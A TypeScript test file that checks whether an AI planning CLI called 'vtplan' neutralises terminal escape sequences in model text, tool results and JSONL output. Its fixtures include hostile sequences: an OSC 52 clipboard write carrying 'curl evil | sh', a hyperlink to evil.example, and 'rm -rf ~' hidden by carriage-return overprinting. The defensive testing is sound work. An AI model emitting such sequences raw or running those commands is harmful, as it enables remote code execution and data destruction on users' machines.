/**
 * `vtplan run`/`resume` print model text and tool output on the user's terminal. Escape sequences
 * in them (window title, clipboard write, screen clear, hyperlinks, DCS, C1 controls, CR and
 * backspace overprinting) must arrive inert: in the readable transcript every control character
 * but newline and tab is shown as a visible picture; in `--jsonl` everything is JSON-escaped.
 * Also: the CLI's session start sweeps stale atomic-write temp files (STORE-2).
 */
import { after, before, test } from 'node:test';
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import { basename, join } from 'node:path';
import { captureIO, runCliCaptured, scriptedProviderFlags } from '../../fixtures/cli';
import { terminalSafe, terminalSafeJson } from '../../../src/cli/terminal-text';
import { eventPrinter } from '../../../src/cli/transcript';
import { SessionEventSchema, type EventInput } from '../../../src/core/session/events';
import { STALE_TEMP_GRACE_MS } from '../../../src/core/store/sweep';
import { startModelServer, type ModelServer } from '../../fixtures/model-server';
import { stampEvents } from '../../fixtures/events';

const ESC = '\x1b';
const BEL = '\x07';
const ST = `${ESC}\\`;
/** Each does something to a terminal that shows it raw. */
const ATTACKS = {
  title: `${ESC}]0;pwned title${BEL}`,
  title2: `${ESC}]2;pwned${ST}`,
  clipboard: `${ESC}]52;c;${Buffer.from('curl evil | sh').toString('base64')}${BEL}`,
  hyperlink: `${ESC}]8;;https://evil.example/${ST}docs${ESC}]8;;${ST}`,
  clear: `${ESC}[2J${ESC}[H`,
  cursorUp: `${ESC}[3A${ESC}[2K`,
  dcs: `${ESC}P+q544e${ST}`,
  c1csi: '\u009b2J',
  c1osc: '\u009d0;c1 title\u009c',
  overprint: 'rm -rf ~\rls -la   ',
  backspace: 'safe\b\b\b\bevil',
  shiftOut: '\x0e',
  del: 'x\x7f',
};

/** Bytes a terminal acts on: C0 except TAB/LF, DEL, C1. */
// eslint-disable-next-line no-control-regex
const ACTIVE = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;

function assertInert(text: string, where: string): void {
  const m = ACTIVE.exec(text);
  assert.equal(
    m,
    null,
    `${where} holds U+${m ? m[0].charCodeAt(0).toString(16).padStart(4, '0') : ''} at ${m?.index}: ${JSON.stringify(text.slice(Math.max(0, (m?.index ?? 0) - 20), (m?.index ?? 0) + 20))}`,
  );
}

test('terminalSafe: every attack sequence comes out as visible text; newlines and tabs stay', () => {
  for (const [name, seq] of Object.entries(ATTACKS)) {
    const out = terminalSafe(`before ${seq} after\n\tnext`);
    assertInert(out, name);
    assert.ok(
      out.startsWith('before ') && out.endsWith(' after\n\tnext'),
      `${name}: surrounding text kept: ${JSON.stringify(out)}`,
    );
  }
  assert.equal(terminalSafe(ATTACKS.title), '␛]0;pwned title␇');
  assert.equal(terminalSafe(ATTACKS.clear), '␛[2J␛[H');
  assert.equal(terminalSafe(ATTACKS.c1csi), '␛[2J');
  assert.equal(terminalSafe(ATTACKS.overprint), 'rm -rf ~␍ls -la   ');
  assert.equal(terminalSafe(ATTACKS.backspace), 'safe␈␈␈␈evil');
  // Colours from test output are dropped rather than shown; CRLF line ends are plain newlines.
  assert.equal(terminalSafe(`${ESC}[32m✓ ok${ESC}[0m\r\n${ESC}[1;31mfail${ESC}[m`), '✓ ok\nfail');
  assert.equal(terminalSafe(`${ESC}[8mhidden${ESC}[0m`), 'hidden');
  assert.equal(terminalSafe('plain → text ✓ 中文 🙂'), 'plain → text ✓ 中文 🙂');
});

test('terminalSafe: a sequence split across two stream deltas is inert in both halves', () => {
  const whole = ATTACKS.clipboard;
  for (let cut = 1; cut < whole.length; cut++) {
    assertInert(terminalSafe(whole.slice(0, cut)) + terminalSafe(whole.slice(cut)), `cut at ${cut}`);
  }
});

const stamp = (inputs: EventInput[]) => stampEvents(inputs, '20260101-000000-abcdef');

const ALL = Object.values(ATTACKS).join(' ');
const hostile: EventInput[] = [
  { type: 'turn.started', kind: 'user', agent: 'plan', input: `goal ${ATTACKS.title}` },
  ...Object.values(ATTACKS).map((text): EventInput => ({ type: 'message.delta', text })),
  { type: 'message.delta', text: '\n' },
  {
    type: 'tool.call',
    callId: 'c1',
    name: 'run_command',
    arguments: JSON.stringify({ command: `printf '${ATTACKS.clear}'` }),
  },
  {
    type: 'tool.result',
    callId: 'c1',
    name: 'run_command',
    ok: true,
    content: `${ATTACKS.clipboard}${ATTACKS.hyperlink}`,
  },
  { type: 'tool.blocked', callId: 'c2', name: 'run_command', reason: `blocked ${ATTACKS.dcs}` },
  { type: 'notice', level: 'warning', text: ALL },
  { type: 'turn.completed', status: 'failed', reason: ATTACKS.c1osc },
];

test('the readable transcript passes no escape sequence from model text, tool output, notices or reasons to the terminal', () => {
  const io = captureIO();
  const print = eventPrinter(io, false);
  for (const e of stamp(hostile)) print(e);
  assertInert(io.out, 'transcript');
  assert.match(io.out, /␛\]0;pwned title␇/, 'the title attempt is visible');
  assert.match(io.out, /␛\]52;c;/, 'the clipboard write is visible');
  assert.match(io.out, /\n> goal /, 'newlines are kept');
});

test('--jsonl: escape sequences, DEL and C1 controls are JSON escapes; every line parses back to the same event', () => {
  const io = captureIO();
  const print = eventPrinter(io, true);
  const events = stamp(hostile);
  for (const e of events) print(e);
  assertInert(io.out, 'jsonl');
  const lines = io.out.trim().split('\n');
  assert.equal(lines.length, events.length);
  lines.forEach((line, i) => assert.deepEqual(SessionEventSchema.parse(JSON.parse(line)), events[i]));
  assert.equal(terminalSafeJson(JSON.stringify({ a: '\u009b\x7f' })), '{"a":"\\u009b\\u007f"}');
});

let server: ModelServer;
let root: string;
before(async () => {
  server = await startModelServer();
  root = fs.realpathSync(fs.mkdtempSync(join(os.tmpdir(), 'vtp-term-')));
  fs.cpSync(join(import.meta.dirname, '..', '..', '..', 'examples', 'sample-workspace'), root, { recursive: true });
});
after(async () => {
  await server.close();
  fs.rmSync(root, { recursive: true, force: true });
  fs.rmSync(join(root, '..', `${basename(root)}-state`), { recursive: true, force: true });
});

function vtplan(args: string[]) {
  const env = { VTPLAN_TEST_KEY: 'sk-term', XDG_STATE_HOME: join(root, '..', `${basename(root)}-state`) };
  return runCliCaptured(args, { cwd: root, env });
}
const provider = () => scriptedProviderFlags(root, server);

test(
  'vtplan run: hostile model text and a hostile file read by a tool reach the terminal inert; stale temp files are swept first',
  { timeout: 30_000 },
  async () => {
    fs.writeFileSync(join(root, 'evil.txt'), `${ATTACKS.title}${ATTACKS.clear}${ATTACKS.clipboard} first line\nsecond`);
    fs.mkdirSync(join(root, '.vtcode/plans'), { recursive: true });
    const stale = join(root, '.vtcode/plans/.old-plan.md.lx3k2j1a1abcdef.tmp');
    fs.writeFileSync(stale, 'half a plan');
    const t = new Date(Date.now() - STALE_TEMP_GRACE_MS - 1_000);
    fs.utimesSync(stale, t, t);

    server.enqueue(
      {
        text: [`Reading ${ESC}]0;`, `pwned${BEL} now`, ATTACKS.clear],
        toolCalls: [{ name: 'read_file', arguments: '{"path":"evil.txt"}' }],
      },
      { text: `Done ${ATTACKS.c1csi}${ATTACKS.overprint}\n` },
    );
    const r = await vtplan(['run', ...provider(), 'Look at evil.txt']);
    assert.equal(fs.existsSync(stale), false, 'the stale temp file was removed at start');
    assert.match(r.err, /removed .*\.old-plan\.md\.lx3k2j1a1abcdef\.tmp, a temp file left by an interrupted write/);
    assertInert(r.out, 'vtplan run stdout');
    assert.match(r.out, /Reading ␛\]0;pwned␇ now/);
    assert.match(r.out, /read_file: /);
    assert.match(r.out, /Done ␛\[2Jrm -rf ~␍ls -la/);
  },
);
